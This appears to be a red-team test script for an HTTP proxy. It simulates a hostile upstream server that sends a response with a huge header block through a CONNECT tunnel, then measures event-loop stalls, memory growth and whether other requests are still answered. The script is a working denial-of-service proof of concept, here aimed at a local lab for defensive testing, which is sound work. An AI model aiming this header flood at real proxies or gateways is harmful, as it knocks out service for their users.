"""Hostile upstream: one response with a huge header block (no limit applied in a CONNECT
tunnel) stalls the event loop and inflates RSS; other allowed requests stop being answered.

Run: .venv/bin/python -m redteam.proxy.resp_header_dos [MB]
"""
from __future__ import annotations

import sys
import threading
import time

from redteam.proxy.harness import Lab, recv_all

MB = int(sys.argv[1]) if len(sys.argv) > 1 else 30


def main():
    big = (b"HTTP/1.1 200 OK\r\n" + b"".join(b"x-%d: %s\r\n" % (i, b"a" * 990) for i in range(MB * 1000))
           + b"content-length: 2\r\n\r\nok")
    small = b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok"

    def respond(head: bytes):
        return big if b"/v1/big" in head else small

    lab = Lab(respond=respond)
    peak = [0]
    stop = threading.Event()

    def watch():
        while not stop.is_set():
            peak[0] = max(peak[0], lab.rss_kib())
            time.sleep(0.05)

    threading.Thread(target=watch, daemon=True).start()
    try:
        def probe(tag):
            t0 = time.monotonic()
            s, _ = lab.connect_tunnel(f"api.openai.com:{lab.up.port}", timeout=30)
            s.sendall(f"GET /v1/small HTTP/1.1\r\nHost: api.openai.com:{lab.up.port}\r\nConnection: close\r\n\r\n".encode())
            raw = recv_all(s, 30)
            s.close()
            print(f"[{tag}] small allowed request: {raw[:15]!r} after {time.monotonic() - t0:.2f}s")

        probe("baseline")
        s, _ = lab.connect_tunnel(f"api.openai.com:{lab.up.port}")
        t0 = time.monotonic()
        s.sendall(f"GET /v1/big HTTP/1.1\r\nHost: api.openai.com:{lab.up.port}\r\nConnection: close\r\n\r\n".encode())
        time.sleep(0.3)
        probe("during big header")
        raw = recv_all(s, 60, limit=200_000_000)
        print(f"big: gateway got {len(raw)} bytes after {time.monotonic() - t0:.1f}s; "
              f"limit is 65536 (--max-response-header-bytes default)")
        s.close()
        time.sleep(0.5)
        print(f"peak RSS {peak[0] // 1024} MiB; now {lab.rss_kib() // 1024} MiB; process alive: {lab.sc.proc.poll() is None}")
        for d in lab.sc.decisions:
            print("  DECISION", d["decision"], d["reason"], d["path"], d.get("detail"))
    finally:
        stop.set()
        lab.close()


if __name__ == "__main__":
    main()
